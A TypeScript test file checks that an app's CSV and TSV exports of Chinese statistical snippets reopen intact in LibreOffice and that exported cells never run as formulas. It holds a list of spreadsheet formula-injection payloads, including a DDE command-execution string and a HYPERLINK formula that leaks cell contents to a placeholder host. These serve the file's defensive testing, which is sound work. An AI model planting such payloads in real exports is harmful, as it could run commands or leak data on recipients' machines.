import { beforeAll, describe, expect, test } from 'vitest';
import { toCsv, toTsv } from '../../lib/formats/delimited-text.ts';
import type { SnippetFigure, SnippetGrowth } from '../../lib/records/snippet.ts';
import { snippetColumns, snippetCsvParts } from '../../lib/snippets/export-csv.ts';
import { keptSnippet, plainFigure } from '../helpers/kept-snippet.ts';
import { type OpenAs, openInSpreadsheet, type SheetCell, soffice } from '../helpers/spreadsheet.ts';

/**
 * As the import window proposes (UTF-8 after the byte order mark, commas); and with formulas switched on there, the worst
 * that a reader can choose. The window does not open without a screen, so that its choices are given.
 */
const ways: OpenAs[] = [
  { name: 'as-proposed.csv', filter: 'CSV:44,34,76,1,,0,false,true,false' },
  { name: 'formulas-on.csv', filter: 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true' },
];

const change: SnippetFigure = {
  ...plainFigure,
  ...{ kind: 'change', dir: 'down', basis: '同比', value: 20, unit: '%', indicator: '发案数' },
  indicatorName: '刑事案件立案数',
};
const growth: SnippetGrowth = {
  ...{ text: '48.2%', value: 48.2, valueTo: null, unit: '%', dir: 'up', basis: '同比', approx: 'exact' },
  inferred: [],
};
const level: SnippetFigure = {
  ...plainFigure,
  ...{ indicator: '税收', indicatorName: '税收收入', value: 1_966_000_000, unit: '元' },
  growth,
};
const snippets = [
  keptSnippet({ quote: '19.66亿元', figure: level }),
  keptSnippet({ quote: '20%', sentence: '全年发案数同比下降20%。', figure: change }),
  keptSnippet({ note: '两行\n备注，有“引号”和"quotes"', tags: ['=甲', '乙'] }),
];
/** What a page or a note could hold to run in a spreadsheet, with the result that would give it away. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  '\t=1+1',
  '＝1+1',
  '=HYPERLINK("http://a.example/?"&A1;"看")',
  "=cmd|' /C calc'!A0",
  '"=1+1"',
  ' =1+1',
];

describe.skipIf(soffice === null)('opened in LibreOffice (skipped where soffice is not installed)', () => {
  describe.each(ways)('$name', (way) => {
    let kept: SheetCell[][];
    let attack: SheetCell[][];
    beforeAll(() => {
      kept = openInSpreadsheet([...snippetCsvParts(snippets, { down: '下降', up: '上升' })].join(''), way);
      attack = openInSpreadsheet(toCsv([...hostile.map((words) => [words, '后面一格']), ['%', -20]]), way);
    });

    test('the snippets’ CSV comes back cell by cell', () => {
      const heads = kept[0]!.map(({ shown }) => shown);
      expect(heads).toEqual(snippetColumns.map(({ name }) => name));
      expect(kept).toHaveLength(1 + snippets.length);
      const cell = (row: number, name: string) => kept[row]![heads.indexOf(name)]!;
      expect(cell(1, 'value')).toMatchObject({ shown: '1966000000', type: 'float' });
      expect(cell(1, 'unit').shown).toBe('元');
      expect(cell(1, 'indicatorName').shown).toBe('税收收入');
      expect(cell(1, 'growth').shown).toBe('同比增长48.2%');
      expect(cell(1, 'growthValue')).toMatchObject({ shown: '48.2', type: 'float' });
      expect(cell(1, 'growthUnit').shown).toBe('%');
      expect(cell(2, 'value')).toMatchObject({ shown: '-20', type: 'float' });
      expect(cell(2, 'unit')).toMatchObject({ shown: '%', type: 'string' });
      expect(cell(2, 'growth').shown).toBe('同比下降20%');
      expect(cell(2, 'sentence').shown).toBe('全年发案数同比下降20%。');
      expect(cell(3, 'note').shown).toBe('两行\n备注，有“引号”和"quotes"');
      expect(cell(3, 'tags').shown).toBe("'=甲; 乙");
      expect(cell(3, 'bodyHash').shown).toBe('a'.repeat(64));
      const address = 'https://www.example.gov.cn/zwgk/2023/320038.html';
      for (const row of [1, 2, 3]) expect(cell(row, 'address').shown).toBe(address);
    });

    test('nothing runs, and a unit stands as it is', () => {
      expect(attack.flat().map(({ formula }) => formula)).toEqual(attack.flat().map(() => null));
      for (const [row, words] of hostile.entries()) {
        expect(attack[row]![0]!.shown.trim(), words).not.toBe('2');
        expect(attack[row]![0]!.type, words).toBe('string');
        expect(attack[row]![1]!.shown).toBe('后面一格');
      }
      expect(attack.at(-1)).toMatchObject([
        { shown: '%', type: 'string' },
        { shown: '-20', type: 'float' },
      ]);
    });
  });

  test('a row that is not guarded does run there, so that the test could fail', () => {
    const cells = openInSpreadsheet('=1+1,b\r\n', ways[1]!);
    expect(cells[0]![0]!.formula).not.toBeNull();
  });

  test('the clipboard’s rows come back cell by cell', () => {
    const cells = openInSpreadsheet(
      toTsv([
        ['%', '=1+1', '"=1+1"', -0.6],
        ['一', '二', '三', null],
      ]),
      {
        name: 'rows.tsv',
        filter: 'CSV:9,34,76,1,,0,false,true,false,false,false,-1,true',
      },
    );
    expect(cells.map((row) => row.map(({ shown }) => shown))).toEqual([
      ['%', "'=1+1", '"=1+1"', '-0.6'],
      ['一', '二', '三', ''],
    ]);
    expect(cells.flat().every(({ formula }) => formula === null)).toBe(true);
  });
});
